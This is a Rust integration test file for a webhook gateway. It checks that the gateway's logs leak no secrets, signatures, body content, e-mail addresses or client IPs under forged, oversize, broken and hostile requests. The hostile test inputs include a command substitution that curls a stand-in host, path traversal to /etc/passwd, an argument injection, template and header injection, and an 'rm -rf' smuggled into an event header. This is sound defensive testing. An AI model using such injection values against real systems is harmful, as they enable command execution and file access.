//! The real binary's log under a mix of valid, forged, oversize, broken and hostile traffic: no secret,
//! signature, body fragment, e-mail address or client IP — unless `log_client_ip = true` asks for the IP.

use std::time::Duration;

use crate::helpers::*;

const INFISICAL_SECRET: &str = "infisical-log-test-secret";

/// Strings of the request bodies below that must never reach the log.
const BODY_MARKERS: &[&str] = &[
    "octo@example.com",
    "acme-private",
    "OVERSIZE-PAYLOAD",
    "broken-json-marker",
    "evil.example",
    "etc/passwd",
    "upload-pack",
    "7*7",
    "X-Injected",
    "hostile-marker",
    "prod-db-path",
];

fn config(dir: &std::path::Path, log_client_ip: bool) -> std::path::PathBuf {
    let text = format!(
        r#"
[server]
listen = "127.0.0.1:0"
max_body = "2KiB"
log_client_ip = {log_client_ip}

[store]
url = "sqlite://{dir}/hookgate.db"

[admin]
token = "env:HOOKGATE_ADMIN_TOKEN"

[worker]
poll_interval = "100ms"

[[sources]]
name = "github"
provider = "github"
secrets = ["env:GITHUB_WEBHOOK_SECRET"]

[[sources]]
name = "infisical"
provider = "infisical"
secrets = ["{INFISICAL_SECRET}"]

[[routes]]
name = "fetch"
source = "github"
filter = 'event == "push"'
action = {{ type = "command", argv = ["true", "{{{{ body.repository.name }}}}", "{{{{ body.ref }}}}"] }}
"#,
        dir = dir.display()
    );
    let path = dir.join("hookgate.toml");
    std::fs::write(&path, text).unwrap();
    path
}

async fn post(base: &str, source: &str, headers: &[(&str, String)], body: &str) -> u16 {
    let mut request = reqwest::Client::new().post(format!("{base}/hooks/{source}")).body(body.to_string());
    for (name, value) in headers {
        request = request.header(*name, value);
    }
    request.send().await.unwrap().status().as_u16()
}

fn infisical_signature(t: i64, body: &str) -> String {
    use hmac::Mac;
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(INFISICAL_SECRET.as_bytes()).unwrap();
    mac.update(body.as_bytes());
    format!("t={t};{}", hex::encode(mac.finalize().into_bytes()))
}

/// Drive the server with every kind of traffic; returns the signature values that were sent.
async fn exercise(server: &BinaryServer) -> Vec<String> {
    let base = &server.addr;
    let mut signatures = Vec::new();

    // Valid: a push that runs a job, with an e-mail address and a private repository name in the body.
    let valid = push_body("refs/heads/main", "acme-private/fleet");
    let headers = github_headers("push", "log-valid", &valid);
    signatures.push(headers[3].1.clone());
    assert_eq!(post(base, "github", &headers, &valid).await, 202);

    // Forged: signed with the wrong secret, and an unsigned one.
    let forged = push_body("refs/heads/main", "acme-private/forged");
    let mut headers = github_headers("push", "log-forged", &forged);
    headers[3].1 = github_signature("not the secret", forged.as_bytes());
    signatures.push(headers[3].1.clone());
    assert_eq!(post(base, "github", &headers, &forged).await, 401);
    assert_eq!(post(base, "github", &[("x-github-event", "push".into())], &forged).await, 401);

    // Oversize.
    let big = format!(r#"{{"pad":"{}"}}"#, "OVERSIZE-PAYLOAD".repeat(400));
    let headers = github_headers("push", "log-big", &big);
    assert_eq!(post(base, "github", &headers, &big).await, 413);

    // Correctly signed but broken JSON.
    let broken = r#"{"ref": "broken-json-marker"#;
    let headers = github_headers("push", "log-broken", broken);
    signatures.push(headers[3].1.clone());
    assert_eq!(post(base, "github", &headers, broken).await, 400);

    // Hostile values that the job's templates would render: refused in the worker, never echoed.
    for (n, name) in [
        "$(curl http://evil.example/x)",
        "../../etc/passwd",
        "--upload-pack=touch /tmp/pwned",
        "{{ 7*7 }}",
        "a\r\nX-Injected: hostile-marker",
    ]
    .iter()
    .enumerate()
    {
        let body = serde_json::json!({
            "ref": "refs/heads/main",
            "repository": { "name": name, "full_name": format!("acme-private/{n}") },
        })
        .to_string();
        let headers = github_headers("push", &format!("log-hostile-{n}"), &body);
        signatures.push(headers[3].1.clone());
        assert_eq!(post(base, "github", &headers, &body).await, 202);
    }
    // A hostile event name and delivery id in headers.
    let body = r#"{"zen":"hostile-marker"}"#;
    let headers = github_headers("ping; rm -rf /etc/passwd", "acme-private-delivery", body);
    signatures.push(headers[3].1.clone());
    assert!([202, 400].contains(&post(base, "github", &headers, body).await));

    // Infisical: a valid change and a stale one.
    let t = hookgate::store::now_ms();
    let change = format!(
        r#"{{"event":"secrets.modified","project":{{"workspaceId":"w","environment":"prod","secretPath":"/prod-db-path"}},"timestamp":{t}}}"#
    );
    let signature = infisical_signature(t, &change);
    signatures.push(signature.split_once(';').unwrap().1.to_string());
    assert_eq!(post(base, "infisical", &[("x-infisical-signature", signature)], &change).await, 202);
    let stale = change.replace(&t.to_string(), &(t - 3_600_000).to_string());
    let signature = infisical_signature(t - 3_600_000, &stale);
    signatures.push(signature.split_once(';').unwrap().1.to_string());
    assert_eq!(post(base, "infisical", &[("x-infisical-signature", signature)], &stale).await, 401);

    // Unknown source, wrong method.
    assert_eq!(post(base, "acme-private", &[], "{}").await, 404);
    let client = reqwest::Client::new();
    assert_eq!(client.get(format!("{base}/hooks/github")).send().await.unwrap().status(), 405);

    // Admin calls: with the token, with a wrong one, and the detail view that returns the body.
    let list = admin_json(base, "/api/v1/deliveries?limit=50").await;
    let valid_id = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["delivery"] == "log-valid")
        .expect("the valid delivery is listed")["id"]
        .as_str()
        .unwrap()
        .to_string();
    let detail = admin_json(base, &format!("/api/v1/deliveries/{valid_id}")).await;
    assert!(detail["body"].to_string().contains("acme-private"));
    let wrong = client.get(format!("{base}/api/v1/deliveries")).bearer_auth("guessed-admin-token").send().await;
    assert_eq!(wrong.unwrap().status(), 401);
    let replay = client
        .post(format!("{base}/api/v1/deliveries/{valid_id}/replay"))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(replay.status(), 202);

    // Let the worker run every job (the hostile ones end dead or succeeded, either way logged).
    eventually(Duration::from_secs(30), "every job to settle", || async {
        let jobs = admin_json(base, "/api/v1/jobs?limit=100").await;
        let items = jobs["items"].as_array().unwrap().clone();
        (items.len() >= 7 && items.iter().all(|j| j["status"] == "succeeded" || j["status"] == "dead")).then_some(())
    })
    .await;
    signatures
}

/// True when `text` holds something shaped like an e-mail address.
fn has_email(text: &str) -> bool {
    let bytes = text.as_bytes();
    bytes.iter().enumerate().any(|(i, &b)| {
        b == b'@'
            && i > 0
            && bytes[i - 1].is_ascii_alphanumeric()
            && bytes.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
            && text[i..].split_whitespace().next().is_some_and(|domain| domain.contains('.'))
    })
}

fn start(log_client_ip: bool) -> (BinaryServer, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let path = config(dir.path(), log_client_ip);
    let server =
        BinaryServer::start(&path, &[("GITHUB_WEBHOOK_SECRET", GITHUB_SECRET), ("HOOKGATE_ADMIN_TOKEN", ADMIN_TOKEN)]);
    (server, dir)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_log_holds_no_secret_signature_body_fragment_email_or_client_ip() {
    let (mut server, _dir) = start(false);
    let signatures = exercise(&server).await;
    assert!(server.terminate().success());
    let log = server.log_text();
    assert!(log.contains("webhook"), "the webhook lines are there: {log}");
    assert_nothing_leaks(&log, &signatures);
}

/// The same traffic with `[log] format = "json"`: every line is one JSON object, the attempt lines carry the
/// fields operators filter on, and nothing leaks that the text format keeps out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_logs_are_one_object_a_line_with_the_attempt_fields_and_hold_no_secret() {
    let dir = tempfile::tempdir().unwrap();
    let path = config(dir.path(), false);
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, format!("[log]\nformat = \"json\"\n{text}")).unwrap();
    let envs = [("GITHUB_WEBHOOK_SECRET", GITHUB_SECRET), ("HOOKGATE_ADMIN_TOKEN", ADMIN_TOKEN)];
    let mut server = BinaryServer::start(&path, &envs);
    let signatures = exercise(&server).await;
    assert!(server.terminate().success());
    let log = server.log_text();
    assert_nothing_leaks(&log, &signatures);

    let lines: Vec<serde_json::Value> =
        log.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not a JSON line ({e}): {l}"))).collect();
    for line in &lines {
        for key in ["timestamp", "level", "target", "message"] {
            assert!(line.get(key).is_some(), "{key} missing: {line}");
        }
    }
    let attempts: Vec<&serde_json::Value> = lines.iter().filter(|l| l["message"] == "job attempt").collect();
    assert!(attempts.len() >= 7, "{log}");
    let ok = attempts.iter().find(|l| l["outcome"] == "succeeded").expect("a succeeded attempt");
    assert_eq!(ok["route"], "fetch");
    assert_eq!(ok["event"], "push");
    assert_eq!(ok["attempt"], "1/5", "attempt n/N: {ok}");
    assert!(ok["job"].as_str().is_some_and(|j| j.len() == 36), "{ok}");
    assert!(ok["delivery"].as_str().is_some_and(|d| d.len() == 36), "{ok}");
    assert!(ok["duration_ms"].as_u64().is_some(), "{ok}");
}

fn assert_nothing_leaks(log: &str, signatures: &[String]) {
    for secret in [GITHUB_SECRET, INFISICAL_SECRET, ADMIN_TOKEN, "guessed-admin-token"] {
        assert!(!log.contains(secret), "the log holds a secret {secret:?}:\n{log}");
    }
    for signature in signatures {
        let hex = signature.trim_start_matches("sha256=");
        assert!(!log.contains(hex), "the log holds a signature {hex}:\n{log}");
    }
    for marker in BODY_MARKERS {
        assert!(!log.contains(marker), "the log holds a body fragment {marker:?}:\n{log}");
    }
    assert!(!has_email(log), "the log holds an e-mail address:\n{log}");
    for line in log.lines().filter(|l| l.contains("127.0.0.1")) {
        assert!(line.contains("listening") && line.contains("addr"), "a client IP in the log: {line}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_log_client_ip_the_webhook_lines_name_the_client_and_nothing_else_leaks() {
    let (mut server, _dir) = start(true);
    let signatures = exercise(&server).await;
    assert!(server.terminate().success());
    let log = server.log_text();

    let webhook_lines: Vec<&str> = log.lines().filter(|l| l.contains("webhook")).collect();
    assert!(!webhook_lines.is_empty(), "{log}");
    assert!(webhook_lines.iter().all(|l| l.contains("client_ip=127.0.0.1")), "{log}");
    for signature in &signatures {
        assert!(!log.contains(signature.trim_start_matches("sha256=")), "{log}");
    }
    for marker in BODY_MARKERS.iter().chain([&GITHUB_SECRET, &ADMIN_TOKEN]) {
        assert!(!log.contains(marker), "the log holds {marker:?}:\n{log}");
    }
}

#[test]
fn the_email_detector_finds_addresses_and_ignores_plain_text() {
    assert!(has_email("user octo@example.com pushed"));
    assert!(!has_email("source=github outcome=accepted \"webhook\""));
    assert!(!has_email("@ alone, or a@b without a dot"));
}

/// An http attempt's line carries the peer's status code, and the breaker's transition is its own line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_attempt_lines_carry_the_status_code_and_every_breaker_transition_is_logged() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let peer = format!("http://{}", listener.local_addr().unwrap());
    let app = axum::Router::new().fallback(|| async { axum::http::StatusCode::SERVICE_UNAVAILABLE });
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    let dir = tempfile::tempdir().unwrap();
    let rest = format!(
        r#"[log]
format = "json"
{GITHUB_SOURCE}
[[routes]]
name = "partner"
source = "github"
action = {{ type = "http", url = "{peer}/hook", timeout = "2s" }}
retry = {{ max_attempts = 3, initial = "10ms", max = "10ms" }}
circuit_breaker = {{ window = "60s", max_failures = 2, open_for = "1h" }}
"#
    );
    let path = binary_config(dir.path(), "", &rest);
    let server = BinaryServer::start(&path, &[("HOOKGATE_ADMIN_TOKEN", ADMIN_TOKEN)]);
    let client = reqwest::Client::new();
    assert_eq!(send_push(&client, &server.addr, "json-breaker").await.unwrap().status(), 202);

    let lines = eventually(Duration::from_secs(10), "two attempts and the circuit opening", || async {
        let lines: Vec<serde_json::Value> =
            server.log_text().lines().filter_map(|l| serde_json::from_str(l).ok()).collect();
        lines.iter().any(|l| l["message"] == "circuit breaker changed").then_some(lines)
    })
    .await;
    let attempts: Vec<&serde_json::Value> = lines.iter().filter(|l| l["message"] == "job attempt").collect();
    assert_eq!(attempts.len(), 2, "the open circuit holds the third: {attempts:?}");
    assert_eq!(attempts[0]["status"], 503);
    assert_eq!(attempts[0]["outcome"], "retry");
    assert_eq!(attempts[0]["attempt"], "1/3");
    assert_eq!(attempts[1]["attempt"], "2/3");
    assert!(attempts[0]["error"].as_str().is_some_and(|e| e.contains("503")), "{:?}", attempts[0]);
    let change = lines.iter().find(|l| l["message"] == "circuit breaker changed").unwrap();
    assert_eq!(
        (change["route"].as_str(), change["from"].as_str(), change["to"].as_str()),
        (Some("partner"), Some("closed"), Some("open"))
    );
    assert_eq!(change["failures"], 2);
}
